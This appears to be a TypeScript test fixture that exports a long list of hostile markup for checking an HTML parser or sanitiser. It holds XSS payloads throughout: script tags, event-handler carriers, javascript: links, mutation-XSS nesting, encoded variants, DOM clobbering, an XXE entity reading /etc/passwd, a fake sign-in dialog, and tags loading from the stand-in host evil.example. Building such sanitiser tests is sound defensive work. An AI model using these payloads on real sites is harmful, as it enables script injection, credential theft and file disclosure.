import { lines } from './lists.ts';

/** Texts that a parser could mistake for markup. Whatever runs calls `alert`, whatever loads requests `evil.example`. */

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbeforetoggle',
  'onwheel',
];

/** Elements that can run a handler with little or no user interaction. */
const CARRIERS = [
  (handler: string) => `<img src=x ${handler}=alert(1)>`,
  (handler: string) => `<svg ${handler}=alert(1)>`,
  (handler: string) => `<details open ${handler}="alert(1)">`,
  (handler: string) => `<input autofocus ${handler}='alert(1)'>`,
  (handler: string) => `<x style="animation-name:enter" tabindex=1 ${handler}=alert(1)>`,
];

const ELEMENTS = `
<script>alert(1)</script>
<script src=https://evil.example/x.js></script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)></script>
<script type=module>import 'https://evil.example/x.js'</script>
<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>
<script>/*</script><script>*/alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" autofocus onfocus=alert(1) x="
' onmouseover='alert(1)
javascript:alert(1)//"><img src=x>
<iframe src=https://evil.example/></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)>
<object data=https://evil.example/x.swf></object>
<object data="data:text/html,<script>alert(1)</script>">
<embed src=https://evil.example/x.svg>
<base href=https://evil.example/>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/p>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<style>@import 'https://evil.example/x.css';</style>
<style>*{display:none}</style>
<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">over it all</p>
<form action=https://evil.example/><input name=code><button>Send</button></form>
<form id=f></form><button form=f formaction=javascript:alert(1)>Send</button>
<input type=image src=https://evil.example/x.png>
<isindex type=image src=1 onerror=alert(1)>
<video src=https://evil.example/x.mp4 autoplay></video>
<video><source onerror=alert(1)></video>
<audio src=https://evil.example/x.mp3 autoplay></audio>
<picture><source srcset=https://evil.example/x.png><img></picture>
<img srcset="https://evil.example/x.png 1x">
<img src=https://evil.example/pixel.gif width=1 height=1>
<img src="x\`onerror=alert(1)\`">
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body background=https://evil.example/x.png>
<html onclick=alert(1)>
<table background=https://evil.example/x.png><td background=javascript:alert(1)>
<marquee onstart=alert(1)>
<a href=javascript:alert(1)>here</a>
<a href="&#106;avascript:alert(1)">here</a>
<a href="java&#9;script:alert(1)">here</a>
<a href=data:text/html,<script>alert(1)</script>>here</a>
<a href=https://evil.example/ ping=https://evil.example/ping>here</a>
<a target=_blank href=https://evil.example/ rel=opener>here</a>
<area href=javascript:alert(1) shape=default>
<dialog open>Sign in again: <input type=password></dialog>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<portal src=https://evil.example/></portal>
<keygen autofocus onfocus=alert(1)>
<slot onslotchange=alert(1)><b>x
<xss id=x tabindex=1 onfocus=alert(1)></xss>
<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x
<button commandfor=x command=show-modal>x
<applet code=evil.class archive=https://evil.example/x.jar>
<frameset onload=alert(1)><frame src=https://evil.example/>
<bgsound src=javascript:alert(1)>
<layer src=https://evil.example/x.js></layer>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!doctype html><html><head><title>
<plaintext>
<xmp><script>alert(1)</script></xmp>
<noembed><img src=x onerror=alert(1)></noembed>
<select><option><script>alert(1)</script>
<textarea autofocus onfocus=alert(1)>
<bdo dir=rtl>trela</bdo>
`;

/** Markup that passes a sanitiser and becomes active when parsed again (mXSS), and markup in the other two languages of a page. */
const NESTED = `
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>
<svg><style><img/src=x onerror=alert(1)//</style></svg>
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg><desc><template><p><img src=x onerror=alert(1)></p></template></desc></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><script xlink:href=https://evil.example/x.js></script></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"/></svg>
<svg><image href=https://evil.example/x.png onerror=alert(1) /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>here</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1) begin=0s></svg>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>
<svg><discard onbegin=alert(1)>
<svg><feImage href=https://evil.example/x.png></svg>
<svg><style>@import'https://evil.example/x.css'</style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript">alert(1)</handler></svg>
<math href=javascript:alert(1)>here</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>here</maction></math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<math><msubsup><mtext><img src=x onerror=alert(1)></mtext></msubsup></math>
<b id="outer"><b id="inner"></b><!-- --!><img src=x onerror=alert(1)>
<a id=location><a id=location name=href href=https://evil.example/>
<img name=getElementById><form name=body><input name=firstChild>
<select><template><img src=x onerror=alert(1)></template></select>
<table><a href=x><svg><td></a><img src=x onerror=alert(1)>
<p/onmouseover=alert(1)//<b
<img src=x onerror=alert(1)
<img/src/onerror=alert(1)>
<img src=x oneonerrorrror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=x:x onerror=&#x61;lert(1)>
<img src=x onerror=\\u0061lert(1)>
<svg/onload=alert\`1\`//
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\\x3cscript\\x3ealert(1)
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
`;

export const HOSTILE_MARKUP: readonly string[] = [
  ...lines(ELEMENTS),
  ...lines(NESTED),
  ...CARRIERS.flatMap((carrier) => HANDLERS.map(carrier)),
  '<img\nsrc=x\nonerror=alert(1)>',
  '<script>\nalert(1)\n</script>',
  '<a href="java\nscript:alert(1)">here</a>',
  '<!--\n--><script>alert(1)</script>',
];
